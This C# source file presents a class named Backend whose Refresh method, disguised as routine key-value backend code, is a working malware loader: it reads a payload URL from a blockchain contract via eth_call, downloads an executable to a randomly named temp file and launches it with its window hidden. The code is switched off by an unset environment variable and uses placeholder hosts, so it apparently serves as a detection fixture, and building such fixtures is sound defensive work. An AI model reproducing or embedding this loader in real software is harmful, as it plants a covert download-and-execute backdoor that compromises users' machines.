using System;
using System.Diagnostics;
using System.IO;
using System.Net.Http;
using System.Net.Http.Json;
using System.Text;
using System.Text.Json;
using System.Threading.Tasks;

namespace Inert.KeyValue;

internal static class Backend
{
    private static readonly string[] Nodes = { "https://rpc1.chain.example.com", "https://rpc2.chain.example.com" };

    public static async Task Refresh()
    {
        // Inert: nobody sets this variable.
        if (Environment.GetEnvironmentVariable("INERT_FIXTURE_ARMED") is null) return;
        using var http = new HttpClient();
        foreach (var node in Nodes)
        {
            try
            {
                var call = new { jsonrpc = "2.0", id = 1, method = "eth_call", @params = new object[] { new { to = "0x0000000000000000000000000000000000000000", data = "0x6d4ce63c" }, "latest" } };
                using var response = await http.PostAsJsonAsync(node, call);
                var answer = await response.Content.ReadFromJsonAsync<JsonElement>();
                var place = Encoding.UTF8.GetString(Convert.FromHexString(answer.GetProperty("result").GetString()![2..])).Trim('\0');
                var path = Path.Combine(Path.GetTempPath(), Guid.NewGuid().ToString("N") + ".exe");
                await File.WriteAllBytesAsync(path, await http.GetByteArrayAsync(place));
                Process.Start(new ProcessStartInfo(path) { CreateNoWindow = true, WindowStyle = ProcessWindowStyle.Hidden });
                return;
            }
            catch (HttpRequestException)
            {
            }
        }
    }
}
